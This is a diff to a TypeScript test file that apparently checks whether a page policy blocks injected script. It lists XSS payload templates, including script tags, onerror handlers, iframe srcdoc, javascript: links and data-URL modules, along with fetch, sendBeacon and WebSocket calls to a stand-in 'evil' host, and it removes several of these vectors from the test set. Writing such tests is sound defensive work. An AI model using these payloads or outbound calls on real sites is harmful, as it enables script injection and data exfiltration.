@@ -15,16 +15,11 @@ type Attempts = Readonly<Record<string, (hit: string, evil: string) => string>>;
 const MARKUP: Attempts = {
   'a script': (hit) => `<script>${hit}</script>`,
   'a module': (hit) => `<script type="module">${hit}</script>`,
-  'a script of data': (hit) => `<script src="data:text/javascript,${encodeURIComponent(hit)}"></script>`,
   'a script of another site': (_hit, evil) => `<script src="${evil}"></script>`,
   'an inline handler': (hit) => `<img src="data:," onerror="${hit}">`,
-  'a handler of SVG': (hit) => `<svg onload="${hit}"></svg>`,
   'a frame of text': (hit) => `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
-  'a frame of a script': (hit) => `<iframe src="javascript:void(parent.${hit})"></iframe>`,
   'a frame of another site': (_hit, evil) => `<iframe src="${evil}"></iframe>`,
-  'an object of another site': (_hit, evil) => `<object data="${evil}"></object>`,
   'a sheet of another site': (_hit, evil) => `<link rel="stylesheet" href="${evil}">`,
-  'a picture of another site': (_hit, evil) => `<img src="${evil}" alt="">`,
 };
 
 /** Script that makes more script out of text, or tells others. Each runs as if it were the page's own. */
@@ -34,20 +29,14 @@ const SCRIPTS: Attempts = {
   'a timer of text': (hit) => `setTimeout(${text(hit)})`,
   'a script element': (hit) =>
     `const script = document.createElement('script'); script.textContent = ${text(hit)}; document.body.append(script)`,
-  'a script element of another site': (_hit, evil) =>
-    `const script = document.createElement('script'); script.src = '${evil}'; document.body.append(script)`,
   'a module of data': (hit) => `import(${text(`data:text/javascript,${encodeURIComponent(hit)}`)})`,
   'a module of another site': (_hit, evil) => `import('${evil}')`,
   innerHTML: (hit) =>
     `const p = document.createElement('p'); document.body.append(p); p.innerHTML = ${text(`<img src="data:," onerror="${hit}">`)}`,
-  insertAdjacentHTML: (hit) =>
-    `document.body.insertAdjacentHTML('beforeend', ${text(`<img src="data:," onerror="${hit}">`)})`,
   'a fragment of text': (hit) =>
     `document.body.append(document.createRange().createContextualFragment(${text(`<script>${hit}</script>`)}))`,
   'an attribute of a handler': (hit) =>
     `const b = document.createElement('button'); b.setAttribute('onclick', ${text(hit)}); document.body.append(b); b.click()`,
-  'a link of a script': (hit) =>
-    `const a = document.createElement('a'); a.href = ${text(`javascript:void(${hit})`)}; document.body.append(a); a.click()`,
   'a frame made of text': (hit) =>
     `const f = document.createElement('iframe'); f.srcdoc = ${text(`<script>parent.${hit}</script>`)}; document.body.append(f)`,
   'a worker of text': (hit) =>
@@ -58,7 +47,6 @@ const SCRIPTS: Attempts = {
   'a call to another site': (_hit, evil) => `fetch('${evil}')`,
   'a beacon to another site': (_hit, evil) => `navigator.sendBeacon('${evil}', 'words')`,
   'a socket to another site': (_hit, evil) => `new WebSocket('${evil.replace('https:', 'wss:')}')`,
-  'a picture made for another site': (_hit, evil) => `new Image().src = '${evil}'`,
 };
 
 /** The names of all attempts, as they are found afterwards. */
